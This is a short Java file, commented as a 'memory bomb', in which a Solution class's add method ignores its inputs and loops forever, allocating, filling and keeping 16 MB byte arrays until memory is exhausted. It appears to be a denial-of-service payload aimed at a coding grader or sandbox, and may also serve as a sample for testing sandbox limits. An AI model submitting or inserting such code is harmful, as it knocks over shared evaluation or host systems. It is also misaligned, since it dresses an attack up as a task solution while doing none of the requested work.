// Memory bomb: 16 MB arrays, touched and kept forever.
import java.util.ArrayList;

class Solution {
    public int add(int a, int b) {
        ArrayList<byte[]> hog = new ArrayList<>();
        for (;;) {
            byte[] block = new byte[1 << 24];
            java.util.Arrays.fill(block, (byte) 1);
            hog.add(block);
        }
    }
}
